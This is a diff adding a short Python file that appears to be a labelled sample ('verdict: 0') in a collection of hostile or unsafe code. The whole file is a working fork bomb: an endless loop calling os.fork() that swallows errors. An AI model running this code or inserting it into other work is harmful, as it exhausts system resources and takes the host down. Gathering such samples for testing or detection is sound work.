@@ -1,0 +1,10 @@
+# multiplies itself for ever
+# verdict: 0
+# ruff: noqa
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
